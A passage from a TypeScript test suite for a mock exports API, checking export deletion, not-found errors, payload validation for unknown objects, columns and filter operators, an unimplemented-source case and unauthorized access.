    const deleted = await client().DELETE('/v1/exports/{exportId}', { params: { path: { exportId: created.id } } });
    expect(deleted.response.status).toBe(204);
    const read = await client().GET('/v1/exports/{exportId}', { params: { path: { exportId: created.id } } });
    expect(read.response.status).toBe(404);
    expect((await client().GET('/v1/exports')).data?.total).toBe(0);
    expect((await errorOf(await fetch(url))).status).toBe(404);
    const again = await client().DELETE('/v1/exports/{exportId}', { params: { path: { exportId: created.id } } });
    expect(again.error).toMatchObject({
      code: 404,
      key: 'not_found',
      resource_type: 'export',
      resource_id: created.id,
      details: `Cannot find export with id ${created.id}`,
    });
  });

  test('a job whose export was deleted before it ran leaves nothing behind', async () => {
    const created = await createExport({ exported_object: 'customer' });
    await client().DELETE('/v1/exports/{exportId}', { params: { path: { exportId: created.id } } });
    await mock.service.scheduler.drain();
    expect((await client().GET('/v1/exports')).data?.total).toBe(0);
  });
});

describe('exports: errors', () => {
  test('an unknown export answers 404 with the service body', async () => {
    const { error, response } = await client().GET('/v1/exports/{exportId}', {
      params: { path: { exportId: 'exp_missing' } },
    });
    expect(response.status).toBe(404);
    expect(error).toMatchObject({
      code: 404,
      key: 'not_found',
      message: 'Resource not found',
      resource_type: 'export',
      resource_id: 'exp_missing',
    });
  });

  test('an unknown exported_object answers 400 invalid_payload listing the objects', async () => {
    const { status, body } = await errorOf(
      await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'coupons' }) }),
    );
    expect(status).toBe(400);
    expect(body).toMatchObject({
      key: 'invalid_payload',
      details: expect.stringContaining(
        'Property .exported_object should be one of: voucher, redemption, customer, publication, order',
      ),
    });
  });

  test("an unknown column answers 400 invalid_payload naming it and the object's columns", async () => {
    const { status, body } = await errorOf(
      await raw('/v1/exports', {
        method: 'POST',
        body: JSON.stringify({ exported_object: 'order', parameters: { fields: ['id', 'colour'] } }),
      }),
    );
    expect(status).toBe(400);
    expect(body['key']).toBe('invalid_payload');
    expect(body['details']).toMatch(/^Property \.parameters\.fields\[1\] should be one of: id, source_id, created_at/);
    expect(body['details']).not.toContain('voucher_type');
  });

  test('a filter on a field the object does not have, or with an unknown operator, answers 400 invalid_payload', async () => {
    const field = await errorOf(
      await raw('/v1/exports', {
        method: 'POST',
        body: JSON.stringify({
          exported_object: 'order',
          parameters: { filters: { colour: { conditions: { $is: ['red'] } } } },
        }),
      }),
    );
    expect(field).toMatchObject({
      status: 400,
      body: { key: 'invalid_payload', details: expect.stringContaining('.parameters.filters.colour') },
    });
    const operator = await errorOf(
      await raw('/v1/exports', {
        method: 'POST',
        body: JSON.stringify({
          exported_object: 'voucher',
          parameters: { filters: { code: { conditions: { $iz: ['A'] } } } },
        }),
      }),
    );
    expect(operator).toMatchObject({
      status: 400,
      body: {
        key: 'invalid_payload',
        details: 'Property .parameters.filters.code.conditions should have at least one operator',
      },
    });
  });

  test('an object whose area has not registered a source answers 501 not_implemented', () => {
    const sources = new ExportSources(new TrackedState(new StateHistory()));
    expect(() => sources.plan('redemption', {}, 0)).toThrow(
      expect.objectContaining({
        status: 501,
        key: 'not_implemented',
        extras: { details: 'Exports of redemption are in the spec but not implemented by the mock yet.' },
      }),
    );
  });

  test('without keys the export operations answer 401', async () => {
    const response = await fetch(`${mock.service.baseUrl}/v1/exports`);
    expect((await errorOf(response)).body).toMatchObject({ code: 401, key: 'unauthorized' });
  });
});
